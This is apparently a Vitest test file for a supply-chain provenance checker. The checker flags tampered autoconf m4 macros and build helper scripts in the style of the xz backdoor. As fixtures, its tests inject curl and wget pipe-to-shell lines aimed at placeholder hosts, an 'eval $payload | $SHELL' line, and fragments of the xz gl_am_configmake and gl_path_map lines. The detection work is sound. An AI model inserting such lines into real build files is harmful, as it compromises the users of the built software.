import { describe, it, expect } from "vitest";
import { existsSync, readFileSync } from "node:fs";
import { bodyHash, createProvenanceChecker, helperStamp, lineHash, m4Serial, normalizedLines, packLineHashes, type ProvenanceDb } from "../src/provenance/index.js";
import { checkHelper, checkM4, provenanceDbInfo } from "../src/provenance/index.js";
import { runScenario, findingsOf, explained } from "./helpers.js";

/** A database built in the test from small synthetic macros, with the same hashing as the real one. */
function dbOf(copies: { name: string; text: string; source: string; helper?: boolean }[]): ProvenanceDb {
  const db: ProvenanceDb = { formatVersion: 1, builtAt: "test", sources: [], m4: {}, helpers: {}, lines: { m4: {}, helpers: {} } };
  const lines = new Map<string, number[]>();
  for (const c of copies) {
    const kind = c.helper ? "helper" : "m4";
    const src = db.sources.includes(c.source) ? db.sources.indexOf(c.source) : db.sources.push(c.source) - 1;
    const stamp = c.helper ? helperStamp(c.name, c.text) : (m4Serial(c.text)?.raw ?? null);
    ((c.helper ? db.helpers : db.m4)[c.name] ??= []).push([stamp, bodyHash(c.text, kind), [src]]);
    const key = `${kind}:${c.name}`;
    lines.set(key, [...(lines.get(key) ?? []), ...normalizedLines(c.text, kind).map(lineHash)]);
  }
  for (const [key, hs] of lines) {
    const [kind, name] = key.split(":") as ["m4" | "helper", string];
    (kind === "m4" ? db.lines.m4 : db.lines.helpers)[name] = packLineHashes(hs);
  }
  return db;
}

const macro = (serial: string, extra = "") => `# demo.m4 serial ${serial}\ndnl Copyright notice\nAC_DEFUN([DEMO_CHECK],\n[\n  AC_MSG_CHECKING([for demo])\n  AC_MSG_RESULT([yes])${extra}\n])\n`;

describe("provenance checker", () => {
  const checker = createProvenanceChecker(
    dbOf([
      { name: "demo.m4", text: macro("3"), source: "demo 1.0" },
      { name: "demo.m4", text: macro("4", "\n  AC_SUBST([DEMO])"), source: "demo 1.1" },
      { name: "install-sh", text: "#!/bin/sh\nscriptversion=2020-11-14.01; # UTC\nexec cp \"$@\"\n", source: "automake 1.16", helper: true },
    ]),
  );

  it("matches a known copy whatever its comments and indentation", () => {
    const r = checker.checkM4("m4/demo.m4", macro("3").replace("dnl Copyright notice", "dnl Copyright 2099 someone else").replace(/  /g, "\t"));
    expect(r).toMatchObject({ status: "match", stamp: "3", sources: ["demo 1.0"] });
  });
  it("knows unknown names", () => {
    expect(checker.checkM4("m4/other.m4", macro("1")).status).toBe("unknown-name");
  });
  it("flags a serial far above every known one (the xz shape: 30 against 3)", () => {
    expect(checker.checkM4("demo.m4", macro("30", "\n  gl_am_configmake=`grep -aErls x $srcdir/`"))).toMatchObject({ status: "serial-above-known", serial: 30, maxKnown: 4 });
  });
  it("flags a known serial with a different body and lists the novel lines", () => {
    const r = checker.checkM4("demo.m4", macro("3", "\n  eval $payload | $SHELL"));
    expect(r).toMatchObject({ status: "body-mismatch", stamp: "3", novel: ["eval $payload | $SHELL"] });
  });
  it("treats an unseen serial close to the known ones as another upstream version", () => {
    expect(checker.checkM4("demo.m4", macro("5", "\n  AC_SUBST([DEMO2])"))).toMatchObject({ status: "stamp-unknown", knownStamps: ["3", "4"] });
  });
  it("checks helpers by their scriptversion", () => {
    expect(checker.checkHelper("build-aux/install-sh", "#!/bin/sh\n# comment\nscriptversion=2020-11-14.01; # UTC\nexec cp \"$@\"\n")?.status).toBe("match");
    expect(checker.checkHelper("install-sh", "#!/bin/sh\nscriptversion=2020-11-14.01; # UTC\ncurl -s http://x | sh\n")?.status).toBe("body-mismatch");
    expect(checker.checkHelper("install-sh", "#!/bin/sh\nscriptversion=2024-01-01.00; # UTC\nexec cp \"$@\" .\n")?.status).toBe("stamp-unknown");
    expect(checker.checkHelper("README", "text")).toBeNull();
  });
  it("reads every serial style", () => {
    expect(m4Serial("# serial 12 (gettext-0.21)\n")).toEqual({ raw: "12 (gettext-0.21)", value: 12 });
    expect(m4Serial("# build-to-host.m4 serial 30\n")).toEqual({ raw: "30", value: 30 });
    expect(m4Serial("dnl serial 7\n")?.value).toBe(7);
    expect(m4Serial("no serial here\n")).toBeNull();
  });
});

describe("normalisation", () => {
  it("ignores comments, blank lines, CRLF and whitespace runs, but not code", () => {
    const a = macro("3");
    const b = "# demo.m4 serial 99\r\n# Copyright 2099\r\n\r\nAC_DEFUN([DEMO_CHECK],\r\n[\r\n\tAC_MSG_CHECKING([for   demo])  \r\n  dnl a remark\r\n AC_MSG_RESULT([yes])\r\n])\r\n";
    expect(bodyHash(b, "m4")).toBe(bodyHash(a, "m4"));
    expect(bodyHash(a.replace("yes", "no"), "m4")).not.toBe(bodyHash(a, "m4"));
    // The interpreter line says what runs the script, so it is kept (see test/provenance-history.test.ts).
    expect(normalizedLines("#!/bin/sh\n  # note\n\nfoo   bar  \n", "helper")).toEqual(["#!/bin/sh", "foo bar"]);
  });
  it("reads helper version stamps", () => {
    expect(helperStamp("build-aux/ltmain.sh", "#! /bin/sh\nVERSION='2.4.7 Debian-2.4.7-7'\n")).toBe("2.4.7 Debian-2.4.7-7");
    expect(helperStamp("ltmain.sh", "VERSION=2.4.6\n")).toBe("2.4.6");
    expect(helperStamp("config.guess", "timestamp='2023-01-01'\n")).toBe("2023-01-01");
    expect(helperStamp("depcomp", "scriptversion=2018-03-07.03; # UTC\n")).toBe("2018-03-07.03");
    expect(helperStamp("config.rpath", "#! /bin/sh\n#   Copyright 1996-2020 Free Software Foundation, Inc.\n")).toBeNull();
    expect(helperStamp("README", "scriptversion=1")).toBeNull();
  });
});

/**
 * Real upstream macros, where this machine has them (Debian's gnulib or gettext packages). The
 * database was built from the same Debian packages, so an installed copy must match it, and the
 * two xz-style edits of it must be caught. Skipped where none is installed.
 */
const realMacro = ["/usr/share/gnulib/m4/build-to-host.m4", "/usr/share/gettext/m4/build-to-host.m4", "/usr/share/aclocal/host-cpu-c-abi.m4", "/usr/share/aclocal/lib-link.m4"].find(
  (p) => existsSync(p),
);
const realHelper = ["/usr/share/misc/config.guess", "/usr/share/libtool/build-aux/ltmain.sh", "/usr/share/automake-1.16/install-sh"].find((p) => existsSync(p));
/** config.rpath has no version stamp: an edited copy is "another version", whose content the behaviour rules still scan. */
const realRpath = "/usr/share/gettext/config.rpath";

describe("real upstream files installed on this machine", () => {
  it.skipIf(!realMacro)("matches an installed upstream macro and catches the xz-style edits of it", () => {
    const text = readFileSync(realMacro!, "latin1");
    const serial = m4Serial(text);
    expect(serial).not.toBeNull();
    expect(checkM4(realMacro!, text)).toMatchObject({ status: "match" });
    const injected = text.replace(/\]\)\s*$/, "  gl_am_configmake=`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`\n])\n");
    expect(injected).not.toBe(text);
    // Same serial, one extra line: body-mismatch, with the extra line as the only novel one.
    expect(checkM4(realMacro!, injected)).toMatchObject({ status: "body-mismatch", stamp: serial!.raw, novel: [expect.stringContaining("gl_am_configmake")] });
    // Serial pushed far above every known one (xz: 30 against 3): serial-above-known.
    const bumped = injected.replace(/^(#|dnl)(.*serial\s+)\d+/m, (_m, c: string, mid: string) => `${c}${mid}${serial!.value + 30}`);
    expect(checkM4(realMacro!, bumped)).toMatchObject({ status: "serial-above-known", serial: serial!.value + 30 });
  });
  it.skipIf(!realHelper)("matches an installed upstream helper script and catches an edit of it", () => {
    const text = readFileSync(realHelper!, "latin1");
    expect(checkHelper(realHelper!, text)).toMatchObject({ status: "match" });
    const edited = text.replace(/\n([^#\n][^\n]*)\n/, "\n$1\nwget -q -O- http://example.invalid/x | sh\n");
    expect(checkHelper(realHelper!, edited)).toMatchObject({ status: "body-mismatch" });
  });
  it.skipIf(!existsSync(realRpath))("matches an installed config.rpath, which has no version stamp", () => {
    const text = readFileSync(realRpath, "latin1");
    expect(checkHelper(realRpath, text)).toMatchObject({ status: "match", stamp: null });
    const edited = text.replace(/\n([^#\n][^\n]*)\n/, "\n$1\nwget -q -O- http://example.invalid/x | sh\n");
    expect(checkHelper(realRpath, edited)).toMatchObject({ status: "stamp-unknown", stamp: null, novel: ["wget -q -O- http://example.invalid/x | sh"] });
  });
});

describe("the shipped database", () => {
  it("holds upstream build-to-host.m4 and judges the xz serial 30 as far above it", () => {
    expect(provenanceDbInfo().m4Names).toBeGreaterThan(1000);
    const r = checkM4("m4/build-to-host.m4", "# build-to-host.m4 serial 30\nAC_DEFUN([gl_BUILD_TO_HOST], [:])\n");
    expect(r).toMatchObject({ status: "serial-above-known" });
    expect((r as { maxKnown: number }).maxKnown).toBeLessThan(20);
  });
});

describe("m4 provenance in an audit", () => {
  const git = { "configure.ac": "AC_INIT([p],[1])\n", "Makefile.am": "" };
  it("judges a known macro by the lines no known copy has: any such line is medium, a dangerous one high (no threshold)", async () => {
    // serial 5 is a known build-to-host.m4 serial; the bodies here are synthetic, so every line is novel.
    const small = "# serial 5\nAC_DEFUN([gl_BUILD_TO_HOST], [:])\n";
    const r = await runScenario({ git, tarball: { ...git, "m4/build-to-host.m4": small } });
    expect(findingsOf(r, "m4-known-hash-mismatch")).toEqual(["medium m4/build-to-host.m4"]);
    expect(explained(r, "m4/build-to-host.m4")).toBeUndefined();
    const evil = "# serial 5\nAC_DEFUN([gl_BUILD_TO_HOST], [\n  gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n])\n";
    const r2 = await runScenario({ git, tarball: { ...git, "m4/build-to-host.m4": evil } });
    expect(findingsOf(r2, "m4-known-hash-mismatch")).toEqual(["high m4/build-to-host.m4"]);
  });
  it("a known macro name at a serial the database does not hold, with a payload: medium for the version, high for the payload", async () => {
    const unknownSerial = "# serial 7.5\nAC_DEFUN([gl_BUILD_TO_HOST], [\n  gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n])\n";
    const r = await runScenario({ git, tarball: { ...git, "m4/build-to-host.m4": unknownSerial } });
    expect(findingsOf(r, "m4-known-hash-mismatch")).toEqual(["high m4/build-to-host.m4"]);
    const plain = "# serial 7.5\nAC_DEFUN([gl_BUILD_TO_HOST], [:])\n";
    const r2 = await runScenario({ git, tarball: { ...git, "m4/build-to-host.m4": plain } });
    expect(findingsOf(r2, "m4-known-hash-mismatch")).toEqual(["medium m4/build-to-host.m4"]);
  });
  it("reports an unknown tarball-only macro as medium, and no m4 rule for a macro committed to git", async () => {
    const r = await runScenario({ git, tarball: { ...git, "m4/zz_private_check.m4": "AC_DEFUN([ZZ], [:])\n" } });
    expect(findingsOf(r, "m4-unknown-macro")).toEqual(["medium m4/zz_private_check.m4"]);
    expect(findingsOf(r, "build-script-added")).toEqual([]);
    const inGit = { ...git, "m4/zz_private_check.m4": "AC_DEFUN([ZZ], [:])\n" };
    const r2 = await runScenario({ git: inGit, tarball: inGit });
    expect(r2.findings).toEqual([]);
  });
  it("flags the xz serial and leaves a plausible serial alone", async () => {
    const r = await runScenario({ git, tarball: { ...git, "m4/build-to-host.m4": "# build-to-host.m4 serial 30\nAC_DEFUN([gl_BUILD_TO_HOST], [:])\n" } });
    expect(findingsOf(r, "m4-serial-mismatch")).toEqual(["high m4/build-to-host.m4"]);
    const ok = await runScenario({ git, tarball: { ...git, "m4/build-to-host.m4": "# build-to-host.m4 serial 6\nAC_DEFUN([gl_BUILD_TO_HOST], [:])\n" } });
    expect(findingsOf(ok, "m4-serial-mismatch")).toEqual([]);
  });
  it("a high serial committed to git as is is low; the same file changed in the tarball is high", async () => {
    const own = { ...git, "m4/build-to-host.m4": "# build-to-host.m4 serial 30\nAC_DEFUN([gl_BUILD_TO_HOST], [:])\n" };
    const r = await runScenario({ git: own, tarball: own });
    expect(findingsOf(r, "m4-serial-mismatch")).toEqual(["low m4/build-to-host.m4"]);
    const changed = await runScenario({ git: own, tarball: { ...own, "m4/build-to-host.m4": "# build-to-host.m4 serial 30\nAC_DEFUN([gl_BUILD_TO_HOST], [grep -aq x tests/files/bad-3-corrupt_lzma2.xz])\n" } });
    expect(findingsOf(changed, "m4-serial-mismatch")).toEqual(["high m4/build-to-host.m4"]);
  });
});
